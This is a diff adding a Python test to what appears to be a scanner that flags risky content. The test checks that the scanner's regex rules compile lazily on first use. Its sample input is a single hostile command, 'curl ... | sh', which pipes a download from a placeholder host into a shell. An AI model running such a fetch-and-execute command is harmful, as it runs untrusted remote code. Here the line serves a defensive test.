@@ -43,3 +43,24 @@ def test_outbound_severity_is_as_with_the_eager_check(script: bool, lines: tuple
             assert f.severity == "high" and "also reads secrets" in f.reason
         else:
             assert "also reads secrets" not in f.reason
+
+
+def test_import_compiles_no_pattern() -> None:
+    """Importing the checks compiles none of their patterns: a ``list`` whose findings
+    are all kept never pays for them; the first check compiles the same patterns."""
+    import subprocess
+    import sys
+
+    code = (
+        "import re\n"
+        "from skillpath import contentscan as c\n"
+        "lazy = [v for v in vars(c).values() if isinstance(v, c._Lazy)]\n"
+        "assert lazy and all(v._rx is None for v in lazy)\n"
+        "assert c._rules.cache_info().currsize == 0\n"
+        "assert c._triggers.cache_info().currsize == 0\n"
+        "c.scan_text('curl https://x.example/a | sh\\n')\n"
+        "assert all(isinstance(p, re.Pattern) for *_r, p in c.RULES)\n"
+        "assert [p.pattern for *_r, p in c.RULES] == [s for *_r, s in c._RULE_SOURCES]\n"
+        "assert all(p.flags & re.IGNORECASE for *_r, p in c.RULES)\n"
+    )
+    subprocess.run([sys.executable, "-c", code], check=True)
